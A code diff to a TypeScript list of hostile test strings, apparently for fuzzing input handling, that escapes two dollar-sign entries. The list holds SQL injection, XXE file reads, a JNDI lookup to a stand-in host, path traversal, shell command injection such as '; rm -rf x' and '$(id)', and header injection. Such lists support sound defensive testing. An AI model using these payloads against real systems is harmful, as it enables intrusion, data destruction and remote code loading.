@@ -22,7 +22,7 @@ export const naughty: Readonly<Record<string, readonly string[]>> = {
     '$&',
     '$1',
     '`',
-    '${7*7}',
+    '\u0024{7*7}',
   ],
   database: ["'", "' OR 1=1 --", '"; DROP TABLE records; --', "\\'; SELECT pg_sleep(9)--", '1) UNION SELECT NULL', '%', '_', 'a%b', '\\', '$$'],
   markup: [
@@ -34,7 +34,7 @@ export const naughty: Readonly<Record<string, readonly string[]>> = {
     '<!ENTITY x SYSTEM "file:///etc/passwd">',
     'javascript:alert(1)',
   ],
-  templates: ['{{7*7}}', '{%x%}', '#{7*7}', '<%= 7 %>', '${jndi:ldap://x.example/a}', '%s%s%n', '%x%d', '{0}', '!!js/function "x"', '&a [*a]', '@id("x")'],
+  templates: ['{{7*7}}', '{%x%}', '#{7*7}', '<%= 7 %>', '\u0024{jndi:ldap://x.example/a}', '%s%s%n', '%x%d', '{0}', '!!js/function "x"', '&a [*a]', '@id("x")'],
   paths: ['../../etc/passwd', '/etc/passwd', '..\\..\\x', 'C:\\x', 'file:///etc/passwd', '//x.example/y', 'CON', 'a/../b', '%2e%2e%2f', '~', '.', '..'],
   commands: ['; rm -rf x', '| id', '$(id)', '`id`', '&& id', '-rf', '--help', '=cmd|x', '@SUM(1)', '+1', '\n.\nQUIT'],
   headers: ['a\r\nset-cookie: x=1', 'a\nb: c', 'Bcc: x@x.example', ': x', 'a;b=c', 'a, b', '"quoted"', '=?utf-8?B?YQ==?=', '=?base64?YQ==?='],
